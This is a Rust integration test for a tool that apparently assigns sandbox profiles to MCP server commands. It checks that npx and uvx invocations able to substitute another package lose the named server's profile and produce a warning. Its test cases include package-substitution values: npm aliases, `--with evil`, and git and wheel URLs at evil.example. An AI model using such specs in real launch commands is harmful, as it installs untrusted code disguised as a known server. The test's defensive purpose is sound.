//! The profile inferred from the command line: a command that names a known server in a way
//! that could run another package (an npm alias, a URL, `--package`, `--from`, `--with`, a
//! registry) gets no named profile (only its registry's base), and says so; the plain form
//! of the same command does.

mod common;

use std::os::unix::fs::PermissionsExt;
use std::time::Duration;

use common::*;

const T: Duration = Duration::from_secs(60);

/// (profile name, plan warnings) of `run --dry-run --format json -- ARGV`.
fn chosen(argv: &[&str]) -> (String, Vec<String>) {
    let mut args = vec!["--dry-run", "--format", "json", "--"];
    args.extend_from_slice(argv);
    let o = output_within(run_cmd(&args), T);
    let v: serde_json::Value = serde_json::from_slice(&o.stdout)
        .unwrap_or_else(|e| panic!("{argv:?}: {e}: {}", String::from_utf8_lossy(&o.stderr)));
    let plan = &v["plan"];
    let warnings = plan["warnings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| w.as_str().unwrap().to_string())
        .collect();
    (
        plan["profile"]["name"].as_str().unwrap().to_string(),
        warnings,
    )
}

#[test]
fn a_package_spec_that_can_name_another_package_gets_no_server_profile() {
    // Stand-ins for the runners: inference reads the command line, not the program.
    let d = readable_scratch();
    for runner in ["npx", "uvx"] {
        let p = d.path().join(runner);
        write(&p, "#!/bin/sh\nexit 0\n");
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let npx = d.path().join("npx");
    let uvx = d.path().join("uvx");
    let (npx, uvx) = (npx.to_str().unwrap(), uvx.to_str().unwrap());
    let github = "@modelcontextprotocol/server-github";

    // Control: the plain command selects the github profile, so a wrong answer below would
    // be seen.
    assert_eq!(chosen(&[npx, "-y", github]).0, "github");
    assert_eq!(chosen(&[uvx, "mcp-server-git"]).0, "git");

    let alias = format!("{github}@npm:other-package");
    let git = format!("{github}@git+https://evil.example/x.git");
    let cases: [&[&str]; 6] = [
        &[npx, "-y", &alias],
        &[npx, "-y", &git],
        &[npx, "-p", "other-package", github],
        &[uvx, "--from", "other-package", "mcp-server-git"],
        &[uvx, "--with", "evil", "mcp-server-git"],
        &[uvx, "mcp-server-git @ https://evil.example/x.whl"],
    ];
    for argv in cases {
        let (profile, warnings) = chosen(argv);
        // Not the named server's profile: the runner's registry base, which grants the
        // registry and nothing else.
        let base = if argv[0] == npx { "npx" } else { "uvx" };
        assert_eq!(profile, base, "{argv:?}");
        assert!(
            warnings.iter().any(|w| w.contains("is not chosen for it")),
            "{argv:?}: {warnings:?}"
        );
    }

    // A real run says it on stderr, at warn level.
    let o = output_within(run_cmd(&["--", npx, "-y", &alias]), T);
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(0), "{stderr}");
    assert!(
        stderr.contains("WARN") && stderr.contains("the `github` profile"),
        "{stderr}"
    );
}
